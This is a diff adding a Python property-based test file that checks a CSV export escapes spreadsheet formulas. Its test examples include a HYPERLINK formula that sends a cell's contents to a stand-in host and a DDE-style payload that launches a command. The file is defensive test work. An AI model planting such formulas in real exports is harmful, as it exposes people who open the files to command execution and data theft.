@@ -1,0 +1,68 @@
+"""Exported pairs: what callers and models said is text, whatever a spreadsheet would make of it."""
+
+from __future__ import annotations
+
+import csv
+from pathlib import Path
+
+import duckdb
+import pytest
+from hypothesis import example, given
+from hypothesis import strategies as st
+
+from shadow_ops.responses.export import exported
+from shadow_ops.responses.tally import Example
+
+CELLS = ("key", "production", "shadow", "request", "segment")
+FIRST = "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20"
+TEXTS = st.builds(str.__add__, st.sampled_from(FIRST), st.text(st.characters(exclude_categories=["Cs"]), max_size=9))
+NUMBERS = st.floats(allow_nan=False, allow_infinity=False).map(repr) | st.integers().map("{:+d}".format)
+
+
+def pair(cell: str, text: str) -> Example:
+    """A pair that differs, with a text somewhere in it."""
+    said = dict(zip(CELLS, ("k", "0.5", "0.6", "1,2", "all"), strict=True)) | {cell: text}
+    return Example(rank=(0.0, 0.0, 0.0), hour="2026-11-24T09", parts=(("score", "0.1 apart"),), **said)
+
+
+def rows(folder: Path, name: str, *pairs: Example) -> list[dict[str, str]]:
+    """What an exported file says."""
+    with exported(folder / name) as take:
+        for one in pairs:
+            take(one)
+    if name.endswith(".csv"):
+        with (folder / name).open(newline="", encoding="utf-8") as file:
+            return list(csv.DictReader(file))
+    found = duckdb.connect().execute(f"SELECT * FROM '{folder / name}'")
+    names = [one[0] for one in found.description]
+    return [dict(zip(names, row, strict=True)) for row in found.fetchall()]
+
+
+@given(st.sampled_from(CELLS), TEXTS.filter(lambda one: not one[1:].replace(".", "").isdigit()))
+@example("request", '=HYPERLINK("http://x/?"&A1,"open")')
+@example("key", "-2+3+cmd|' /C calc'!A0")
+@example("production", "-inf")
+@example("shadow", "+1_000")
+@example("segment", "-\u0661=")
+def test_no_cell_of_a_csv_file_is_a_formula(tmp_path_factory: pytest.TempPathFactory, cell: str, text: str) -> None:
+    """In any column; the text is whole behind the apostrophe."""
+    [row] = rows(tmp_path_factory.getbasetemp(), "seen.csv", pair(cell, text))
+    assert row[cell] == f"'{text}"
+
+
+@given(st.sampled_from(CELLS), NUMBERS)
+@example("production", "-.5")
+@example("production", "-1.")
+@example("production", "-1e-7")
+def test_numbers_stay_numbers(tmp_path_factory: pytest.TempPathFactory, cell: str, text: str) -> None:
+    """With a sign in front of them, too."""
+    [row] = rows(tmp_path_factory.getbasetemp(), "seen.csv", pair(cell, text))
+    assert row[cell] == text
+
+
+@pytest.mark.parametrize("cell", CELLS)
+def test_parquet_has_every_cell_as_it_was(tmp_path: Path, cell: str) -> None:
+    """No spreadsheet runs it."""
+    texts = ["=1+1", "@x", "-0.5", "'=x", "plain"]
+    found = rows(tmp_path, "seen.parquet", *(pair(cell, text) for text in texts))
+    assert [row[cell] for row in found] == texts
